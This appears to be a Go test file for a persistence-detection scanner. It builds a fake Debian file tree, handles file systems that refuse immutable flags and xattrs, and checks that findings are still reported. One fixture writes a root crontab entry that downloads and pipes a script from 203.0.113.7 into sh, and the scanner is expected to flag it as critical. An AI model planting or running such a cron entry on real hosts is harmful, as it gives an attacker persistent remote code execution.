package persist

import (
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/abusekit/abusekit/internal/testenv"
	"github.com/abusekit/abusekit/plugins/persist/hosttest"
)

// flagless maps a test's name to why the tree build wrote for it lost its
// chattr flags or xattrs (the file system or the privileges lack them).
var flagless sync.Map

// dropFlags records that t's tree was written without the inode flags or
// xattrs the file system refused, and clears the flags that did take, so
// the tree is consistently without them.
func dropFlags(t testing.TB, dir string, why error) {
	t.Helper()
	_ = filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err == nil && (d.Type().IsRegular() || d.IsDir()) {
			_ = hosttest.SetImmutable(p, false)
		}
		return nil
	})
	flagless.Store(t.Name(), why.Error())
	t.Logf("tree written without chattr flags or refused xattrs; assertions about them skip: %v", why)
}

// flagsDropped reports whether t's tree lost its flags or xattrs.
func flagsDropped(t testing.TB) bool {
	_, ok := flagless.Load(t.Name())
	return ok
}

// needFlags skips the rest of t (fails it under ABUSEKIT_REQUIRE_ROOT=1)
// when its tree lost its flags or xattrs; call it after the assertions
// that hold without them.
func needFlags(t testing.TB) {
	t.Helper()
	if why, ok := flagless.Load(t.Name()); ok {
		testenv.Skipf(t, "needs chattr +i and xattrs on the test's file system: %v", why)
	}
}

// needRoot skips t (fails it under ABUSEKIT_REQUIRE_ROOT=1) unless root.
func needRoot(t testing.TB, why string) {
	t.Helper()
	testenv.NeedRoot(t, why)
}

// A tree whose flags or xattrs the file system refuses is still built and
// examined: only what needs the flags skips (fails under
// ABUSEKIT_REQUIRE_ROOT=1). An xattr in a namespace no file system knows
// stands in for a file system without them.
func TestBuildWithoutFlags(t *testing.T) {
	tree := hosttest.Debian12().
		Append("/etc/crontab", "* * * * * root curl -s http://203.0.113.7/x | sh\n", hosttest.InfectionTime).
		With(hosttest.Entry{Path: "/etc/cron.d/keep", Data: "# nothing\n", Xattrs: map[string]string{"bogus.ns": "1"}, Immutable: true})
	skipped := true
	t.Run("examine", func(t *testing.T) {
		defer func() { skipped = t.Skipped() }()
		dir := build(t, tree)
		if !flagsDropped(t) {
			t.Fatal("refused xattr not recorded")
		}
		fs := find(t, dir, time.Time{})
		if f, ok := findingAt(fs, "/etc/crontab", 24); !ok || f.Severity != Critical {
			t.Errorf("the rest of the tree is not examined: %v %s", ok, f)
		}
		if _, ok := findingAt(fs, "/etc/cron.d/keep", 0); ok {
			t.Error("flags that took were left on: the tree is half flagged")
		}
	})
	if skipped {
		t.Error("build skipped a test whose tree the file system could not flag")
	}

	for _, strict := range []bool{false, true} {
		cmd := exec.Command(os.Args[0], "-test.run=^TestNeedFlagsChild$", "-test.v")
		cmd.Env = append(os.Environ(), "PERSIST_NEEDFLAGS_CHILD=1", testenv.EnvRequire+"=0")
		if strict {
			cmd.Env = append(cmd.Env, testenv.EnvRequire+"=1")
		}
		out, err := cmd.CombinedOutput()
		switch {
		case !strict && (err != nil || !strings.Contains(string(out), "--- SKIP: TestNeedFlagsChild")):
			t.Errorf("not strict: %v\n%s", err, out)
		case strict && (err == nil || !strings.Contains(string(out), "--- FAIL: TestNeedFlagsChild") || !strings.Contains(string(out), "needs chattr +i")):
			t.Errorf("strict: %v\n%s", err, out)
		}
	}
}

// TestNeedFlagsChild is run by TestBuildWithoutFlags in a child process.
func TestNeedFlagsChild(t *testing.T) {
	if os.Getenv("PERSIST_NEEDFLAGS_CHILD") == "" {
		return
	}
	build(t, hosttest.Tree{{Path: "/etc/x", Data: "x", Xattrs: map[string]string{"bogus.ns": "1"}}})
	needFlags(t)
}
